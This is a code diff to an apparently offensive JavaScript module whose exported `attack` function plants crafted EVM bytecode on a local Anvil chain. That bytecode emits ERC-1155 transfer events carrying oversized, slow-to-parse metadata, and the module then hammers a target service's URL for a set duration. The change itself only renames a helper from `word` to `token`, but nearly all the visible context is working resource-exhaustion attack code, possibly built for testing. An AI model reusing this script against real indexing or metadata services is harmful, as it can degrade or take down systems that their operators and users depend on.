@@ -3,7 +3,7 @@ import { request } from 'node:http';
 const transferSingle = 'c3d58168c5ae7397731d063d5bbf3d657854427343f4c083240f7aacaa2d0f62';
 const tokensPerAccount = 24;
 const accountsAtOnce = 4;
-const word = (value) => BigInt(value).toString(16).padStart(64, '0');
+const token = (value) => BigInt(value).toString(16).padStart(64, '0');
 
 /** Each as long as a picture may be, and what readers of such text were slow with. */
 const markups = [
@@ -27,7 +27,7 @@ function metadataOf(index) {
 function hostileCode(text) {
   const bytes = Buffer.from(text).toString('hex');
   const padded = bytes.padEnd(Math.ceil(bytes.length / 64) * 64, '0');
-  const answer = word(32) + word(bytes.length / 2) + padded;
+  const answer = token(32) + token(bytes.length / 2) + padded;
   const size = (answer.length / 2).toString(16).padStart(6, '0');
   // MSTORE the quantity, then for each id: MSTORE it, and LOG4 both with the account, nobody, the caller and the event.
   const log = (id) => `60${id.toString(16).padStart(2, '0')}6000526000356000337f${transferSingle}60406000a4`;
@@ -75,7 +75,7 @@ export async function attack({ url, projectId, origin, seconds, chainRpcUrl }) {
       const account = `0x${(0xbad0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
       const contract = `0x${(0xc0de0000000n + BigInt(index)).toString(16).padStart(40, '0')}`;
       await rpc('anvil_setCode', [contract, hostileCode(metadataOf(index))]);
-      await rpc('eth_sendTransaction', [{ from, to: contract, gas: '0x400000', data: `0x${word(account)}` }]);
+      await rpc('eth_sendTransaction', [{ from, to: contract, gas: '0x400000', data: `0x${token(account)}` }]);
       tokens += tokensPerAccount;
       // The first request has the account read; the tokens are there soon after.
       for (let count = 0; count < 5 && Date.now() < untilMs; count += 1) {
